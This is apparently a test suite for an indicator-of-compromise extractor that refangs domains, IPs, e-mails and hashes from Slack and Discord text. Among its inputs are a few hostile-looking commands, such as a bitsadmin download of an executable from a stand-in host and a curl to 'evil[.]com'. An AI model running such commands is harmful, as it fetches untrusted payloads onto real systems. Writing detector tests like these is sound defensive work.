import { describe, expect, it } from 'vitest';
import { detectIndicators, scanText } from '../../src/indicators/detect.js';
import { cpuTimeOf } from '../support/cpu-time.js';

type Expected = Array<[string, string]>; // [type, value]
const found = (text: string, options = {}): Expected => detectIndicators(text, options).map((i) => [i.type, i.value]);

const cases: Array<[string, string, Expected]> = [
  // plain and canonical forms
  ['a bare domain', 'please check evil.com now', [['domain', 'evil.com']]],
  ['an upper-case domain', 'EVIL.COM', [['domain', 'evil.com']]],
  ['a domain with a trailing dot at the end of a sentence', 'I saw evil.com.', [['domain', 'evil.com']]],
  ['a multi-label public suffix', 'host at login.bank.co.uk', [['domain', 'login.bank.co.uk']]],
  ['an IPv4 with leading zeros', '010.001.002.003 and 8.008.8.8', [['ipv4', '8.8.8.8']]],
  ['an IPv6 in full form', '2606:4700:4700:0000:0000:0000:0000:1111', [['ipv6', '2606:4700:4700::1111']]],
  [
    'an upper-case IPv6',
    '2001:4860:4860::8888 2A00:1450:4001:81C::200E',
    [
      ['ipv6', '2001:4860:4860::8888'],
      ['ipv6', '2a00:1450:4001:81c::200e'],
    ],
  ],
  ['an IPv4-mapped IPv6', '::ffff:8.8.4.4', [['ipv4', '8.8.4.4']]],
  ['an e-mail address', 'from Bob.Smith@Evil-Corp.com', [['email', 'bob.smith@evil-corp.com']]],
  [
    'hashes of three lengths, upper-case',
    'D41D8CD98F00B204E9800998ECF8427E da39a3ee5e6b4b0d3255bfef95601890afd80709 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    [
      ['md5', 'd41d8cd98f00b204e9800998ecf8427e'],
      ['sha1', 'da39a3ee5e6b4b0d3255bfef95601890afd80709'],
      ['sha256', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
    ],
  ],
  [
    'duplicates, kept once in order of first appearance',
    'b.com a.com B.COM a[.]com',
    [
      ['domain', 'b.com'],
      ['domain', 'a.com'],
    ],
  ],
  // URLs count through their host
  ['a URL', 'https://evil.com/a/b?c=d#e', [['domain', 'evil.com']]],
  ['a defanged URL', 'hxxps://evil[.]com/a', [['domain', 'evil.com']]],
  ['a URL whose host is an IP with a port', 'http://45.77.12.34:8080/x', [['ipv4', '45.77.12.34']]],
  ['a URL with an IPv6 host', 'http://[2606:4700::6810:84e5]:443/', [['ipv6', '2606:4700::6810:84e5']]],
  ['a domain with a path, no scheme', 'download from evil.com/payload.exe', [['domain', 'evil.com']]],
  ['a CIDR block', 'block 45.77.12.0/24', [['ipv4', '45.77.12.0']]],
  [
    'host:port',
    'connect evil.com:4444 or 45.77.12.34:22',
    [
      ['domain', 'evil.com'],
      ['ipv4', '45.77.12.34'],
    ],
  ],
  [
    'key=value log fields',
    'src=45.77.12.34 dst=8.8.8.8 host=evil.com',
    [
      ['ipv4', '45.77.12.34'],
      ['ipv4', '8.8.8.8'],
      ['domain', 'evil.com'],
    ],
  ],
  ['an e-mail yields nothing else', 'bob@evil.com', [['email', 'bob@evil.com']]],
  [
    'an e-mail and its domain alone',
    'bob@evil.com and evil.com',
    [
      ['email', 'bob@evil.com'],
      ['domain', 'evil.com'],
    ],
  ],
  // refanging
  [
    '[.] (.) {.}',
    'a[.]com b(.)com c{.}com',
    [
      ['domain', 'a.com'],
      ['domain', 'b.com'],
      ['domain', 'c.com'],
    ],
  ],
  [
    '[dot] (dot) {dot} [DOT] with spaces',
    'evil[dot]com bad (dot) net worse {DOT} org',
    [
      ['domain', 'evil.com'],
      ['domain', 'bad.net'],
      ['domain', 'worse.org'],
    ],
  ],
  [
    'half brackets',
    '1.1.1[.1 and sample[.com and test.]org',
    [
      ['ipv4', '1.1.1.1'],
      ['domain', 'sample.com'],
      ['domain', 'test.org'],
    ],
  ],
  ['a backslash dot', 'evil\\.com', [['domain', 'evil.com']]],
  [
    '[:] and [://]',
    'hxxp[:]//evil.com and http[://]bad.net',
    [
      ['domain', 'evil.com'],
      ['domain', 'bad.net'],
    ],
  ],
  [
    'hXXp, hxxps, h[xx]p',
    'hXXp://a.com hxxps://b.com h[xx]ps://c.com',
    [
      ['domain', 'a.com'],
      ['domain', 'b.com'],
      ['domain', 'c.com'],
    ],
  ],
  [
    '[@] [at] (at) [AT]',
    'a[@]x.com b[at]y.com c(at)z.com d [AT] w.com',
    [
      ['email', 'a@x.com'],
      ['email', 'b@y.com'],
      ['email', 'c@z.com'],
      ['email', 'd@w.com'],
    ],
  ],
  [
    'a defanged IP',
    '45.77.12[.]34 and 45[.]77[.]12[.]35',
    [
      ['ipv4', '45.77.12.34'],
      ['ipv4', '45.77.12.35'],
    ],
  ],
  // Slack markup
  ['Slack auto-linked bare text', '<http://evil.com|evil.com>', [['domain', 'evil.com']]],
  ['a Slack link with a label', '<https://evil.com/login|click here>', [['domain', 'evil.com']]],
  ['Slack mailto', '<mailto:bob@evil.com|bob@evil.com>', [['email', 'bob@evil.com']]],
  [
    'Slack mentions, channels and broadcasts are not indicators',
    '<@U024BE7LH> <#C024BE7LH|general> <!here> <!subteam^S123|@team> evil.com',
    [['domain', 'evil.com']],
  ],
  ['Slack HTML escapes', 'a &amp; b &lt;evil.com&gt;', [['domain', 'evil.com']]],
  // Discord markup
  [
    'Discord bold, underline, strike, spoiler',
    '**evil.com** __bad.net__ ~~old.org~~ ||hidden.io||',
    [
      ['domain', 'evil.com'],
      ['domain', 'bad.net'],
      ['domain', 'old.org'],
      ['domain', 'hidden.io'],
    ],
  ],
  ['Discord link without preview', '<https://evil.com/x>', [['domain', 'evil.com']]],
  [
    'Discord mentions, roles, emoji and timestamps',
    '<@123456789012345678> <@&123> <#456> <:pepe:789> <t:1700000000:R> 45.77.12.34',
    [['ipv4', '45.77.12.34']],
  ],
  [
    'code blocks keep their content',
    '```\nconnect 45.77.12.34\n``` and `evil.com`',
    [
      ['ipv4', '45.77.12.34'],
      ['domain', 'evil.com'],
    ],
  ],
  ['a code block with a language tag', '```bash\ncurl hxxp://evil[.]com\n```', [['domain', 'evil.com']]],
  // file names
  ['file names whose extension is a TLD', 'edit main.py, setup.sh, notes.md, invoice.zip, clip.mov, lib.rs and app.pl', []],
  ['a file-name TLD written defanged', 'invoice[.]zip', [['domain', 'invoice.zip']]],
  ['a file-name TLD as a URL host', 'https://invoice.zip/x', [['domain', 'invoice.zip']]],
  ['a file-name TLD as an e-mail domain', 'bob@invoice.zip', [['email', 'bob@invoice.zip']]],
  ['file names that are not TLDs', 'package.json index.html app.js style.css', []],
  // code
  ['member access', 'use user.name and os.path and self.request.user.id and item.id', []],
  ['a method call', 'console.log(x); window.open(y); app.run()', []],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template placeholder is the test input
  ['template variables', '{{user.name}} ${config.host}', []],
  ['a Python dunder file', '__init__.py', []],
  ['C++ and Perl scope', 'std::vector Foo::Bar a::b', []],
  // versions
  ['version strings', 'v1.2.3.4 1.2.3.4.5 Chrome/120.0.0.0 python3.11.7 Mozilla/5.0', []],
  ['sentence joins with a title-case TLD', 'I saw it.Today was fine. Call me.Tomorrow', []],
  ['.NET product names in capitals', 'runs on ASP.NET Core and VB.NET, hosted at asp-portal.net', [['domain', 'asp-portal.net']]],
  ['two capitalised words joined by a dot', 'Hello.World and Thanks.Team, but Google.Com stays', [['domain', 'google.com']]],
  ['reversed-domain package names', 'import org.apache.commons.io and com.google.common.base', []],
  ['logging and DOM members', 'call logging.info, logger.info and window.top', []],
  [
    'classic TLDs still count',
    'evil.info and bad.top',
    [
      ['domain', 'evil.info'],
      ['domain', 'bad.top'],
    ],
  ],
  ['JSON-escaped slashes', '{"url":"https:\\/\\/evil.com\\/gate.php"}', [['domain', 'evil.com']]],
  [
    'Unicode dots used for defanging',
    'evil\u2024com and bad\uFF0Enet',
    [
      ['domain', 'evil.com'],
      ['domain', 'bad.net'],
    ],
  ],
  [
    'CJK text glued to an indicator',
    '访问evil.com和8.8.8.8了',
    [
      ['domain', 'evil.com'],
      ['ipv4', '8.8.8.8'],
    ],
  ],
  ['an internationalised name, in its punycode form', 'https://münchen.de/x and xn--mnchen-3ya.de', [['domain', 'xn--mnchen-3ya.de']]],
  ['fragments of longer invalid tokens', 'foo.bar.baz and evil.com.notatld and a.b.c.d.e', []],
  ['abbreviations', 'e.g. i.e. etc. a.m. U.S.', []],
  // fragments of longer dotted tokens
  ['a dotted-number run with a dot glued in front', 'oid .1.1.1.1 and build .18.12.15.14 here', []],
  ['OIDs and long versions', '1.3.6.1.4.1.311 and 10.0.19045.3803', []],
  ['an ellipsis before an address is not a glued dot', 'and then ...45.77.12.34 answered', [['ipv4', '45.77.12.34']]],
  // encodings and wrappers
  [
    'a percent-encoded slash after a host',
    'ref evil-update.net%2Fgate and 45.77.12.34%3A443',
    [
      ['domain', 'evil-update.net'],
      ['ipv4', '45.77.12.34'],
    ],
  ],
  ['a percent-encoded link in a query', 'go?u=https%3A%2F%2Fevil-update.net%2Fx', [['domain', 'evil-update.net']]],
  ['a command-line switch before a link', 'bitsadmin /transfer j /url:https://evil-update.net/p.exe', [['domain', 'evil-update.net']]],
  ['an e-mail IPv6 literal', 'rcpt bob@[IPv6:2606:4700::1111]', [['ipv6', '2606:4700::1111']]],
  ['an e-mail IPv4 literal', 'rcpt bob@[45.77.12.34]', [['ipv4', '45.77.12.34']]],
  [
    'a hash wrapped in punctuation',
    '!@#d41d8cd98f00b204e9800998ecf8427e!@#- and ~da39a3ee5e6b4b0d3255bfef95601890afd80709~',
    [
      ['md5', 'd41d8cd98f00b204e9800998ecf8427e'],
      ['sha1', 'da39a3ee5e6b4b0d3255bfef95601890afd80709'],
    ],
  ],
  // hashes in context
  ['a 34-hex run', 'd41d8cd98f00b204e9800998ecf8427e00', []],
  [
    'a SHA-512',
    'cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e',
    [],
  ],
  ['a hash glued to letters', 'xd41d8cd98f00b204e9800998ecf8427e file_d41d8cd98f00b204e9800998ecf8427e', []],
  ['a 0x-prefixed hex', '0xd41d8cd98f00b204e9800998ecf8427e', []],
  ['a UUID', '550e8400-e29b-41d4-a716-446655440000', []],
  ['a git commit URL', 'https://github.com/org/repo/commit/da39a3ee5e6b4b0d3255bfef95601890afd80709', [['domain', 'github.com']]],
  ['a commit path without host', 'see /commit/da39a3ee5e6b4b0d3255bfef95601890afd80709', []],
  ['git log output', 'commit da39a3ee5e6b4b0d3255bfef95601890afd80709', []],
  [
    'an image digest',
    'nginx@sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    [],
  ],
  ['a secret in key=value', 'token=d41d8cd98f00b204e9800998ecf8427e api_key: "da39a3ee5e6b4b0d3255bfef95601890afd80709"', []],
  ['a hash in a URL path', 'https://files.sample.org/d41d8cd98f00b204e9800998ecf8427e/x', [['domain', 'files.sample.org']]],
  [
    'a hash labelled as one',
    'md5=d41d8cd98f00b204e9800998ecf8427e SHA256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    [
      ['md5', 'd41d8cd98f00b204e9800998ecf8427e'],
      ['sha256', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
    ],
  ],
  ['all-digit or letter-only hex runs', '12345678901234567890123456789012 abcdefabcdefabcdefabcdefabcdefab', []],
  // IPv6 look-alikes
  ['times, ratios and MACs', 'at 11:04:10, ratio 16:9, mac 00:1a:2b:3c:4d:5e', []],
  ['a certificate serial of 8 bytes', '0a:1b:2c:3d:4e:5f:6a:7b', []],
  // userinfo and trailing punctuation
  ['URL userinfo is not an e-mail', 'ftp://admin:hunter2@evil.com/', [['domain', 'evil.com']]],
  ['a git remote', 'git@github.com:org/repo.git', []],
  [
    'trailing punctuation',
    '(evil.com), "bad.net"; evil.org! 45.77.12.34. bob@evil.com:',
    [
      ['domain', 'evil.com'],
      ['domain', 'bad.net'],
      ['domain', 'evil.org'],
      ['ipv4', '45.77.12.34'],
      ['email', 'bob@evil.com'],
    ],
  ],
];

describe('detectIndicators', () => {
  it.each(cases)('GIVEN %s THEN it finds exactly the expected indicators', (_name, text, expected) => {
    expect(found(text)).toEqual(expected);
  });

  it('GIVEN a defanged spelling THEN the indicator is marked defanged, a plain one is not', () => {
    expect(detectIndicators('evil[.]com bad.net hxxp://x.org')).toEqual([
      { type: 'domain', value: 'evil.com', defanged: true },
      { type: 'domain', value: 'bad.net', defanged: false },
      { type: 'domain', value: 'x.org', defanged: true },
    ]);
  });

  it('GIVEN a message over the cap THEN it is cut at a word boundary, not rejected', () => {
    const text = `${'word '.repeat(10)}evil.com ${'x'.repeat(100)} late.com`;
    expect(found(text, { maxLength: 60 })).toEqual([['domain', 'evil.com']]);
  });
});

describe('never sent upstream', () => {
  const skipped = (text: string, options = {}) => scanText(text, options).skipped.map((s) => [s.value, s.reason]);

  it.each([
    ['10.1.2.3', 'private-ip'],
    ['172.16.0.1', 'private-ip'],
    ['192.168.1.1', 'private-ip'],
    ['127.0.0.1', 'loopback-ip'],
    ['169.254.169.254', 'link-local-ip'],
    ['100.64.0.1', 'cgnat-ip'],
    ['224.0.0.251', 'multicast-ip'],
    ['192.0.2.1', 'documentation-ip'],
    ['198.51.100.7', 'documentation-ip'],
    ['203.0.113.9', 'documentation-ip'],
    ['0.0.0.0', 'reserved-ip'],
    ['255.255.255.255', 'reserved-ip'],
    ['::1', 'loopback-ip'],
    ['fe80::1', 'link-local-ip'],
    ['fd12:3456:789a::1', 'private-ip'],
    ['2001:db8::1', 'documentation-ip'],
    ['printer.local', 'reserved-name'],
    ['db.internal', 'reserved-name'],
    ['app.test', 'reserved-name'],
    ['x.invalid', 'reserved-name'],
    ['www.example', 'reserved-name'],
    ['localhost', 'reserved-name'],
  ])('GIVEN %s THEN it is skipped as %s and not returned as an indicator', (value, reason) => {
    expect(detectIndicators(value)).toEqual([]);
    expect(skipped(value)).toEqual([[value, reason]]);
  });

  it('GIVEN IGNORE_DOMAINS THEN those domains, their subdomains and e-mails on them are skipped', () => {
    const options = { ignoreDomains: ['corp.com'] };
    expect(found('corp.com vpn.corp.com bob@corp.com notcorp.com', options)).toEqual([['domain', 'notcorp.com']]);
    expect(skipped('corp.com vpn.corp.com bob@corp.com', options)).toEqual([
      ['corp.com', 'ignored-domain'],
      ['vpn.corp.com', 'ignored-domain'],
      ['bob@corp.com', 'ignored-domain'],
    ]);
  });
});

describe('linear time', () => {
  const adversarial = {
    'runs of a.': 'a.'.repeat(20_000),
    'runs of [.': '[.'.repeat(20_000),
    'runs of 1:': '1:'.repeat(20_000),
    spaces: ' '.repeat(40_000),
    'A…@ runs': `${'A'.repeat(39_999)}@`,
    'mixed brackets and dots': '[.](.){.}[dot]'.repeat(3000),
    'hex runs': 'ab'.repeat(20_000),
    'angle brackets': '<a|'.repeat(13_000),
    'every new defang style': '[.](.){.}[dot]^.-dot-[-]<.>].[(,)'.repeat(1_100),
    'worded at and dot': 'x at y dot '.repeat(3_600),
    'spaced dots': '1 . '.repeat(10_000),
    'percent-encoded slashes': 'a%2F'.repeat(10_000),
    'odd schemes': 'hxxp__http ://https//'.repeat(1_900),
  };
  it.each(Object.entries(adversarial))('GIVEN 40 KB of %s THEN detection takes well under 50 ms of CPU', async (_name, text) => {
    for (let i = 0; i < 3; i++) detectIndicators(text); // warm up: the first calls run before the JIT has compiled the token loop
    // CPU time, not wall time: the cost of the algorithm is the question, and a loaded machine stretches wall time
    // tenfold (seen: 100 ms of wall for 7 ms of CPU). Linear work takes under 10 ms here; a quadratic step on
    // 40 KB takes seconds. 50 ms is the goal; 250 ms leaves room for a slow CPU and a garbage collection.
    const { cpuMs } = await cpuTimeOf(() => detectIndicators(text));
    expect(cpuMs).toBeLessThan(250);
  });
});
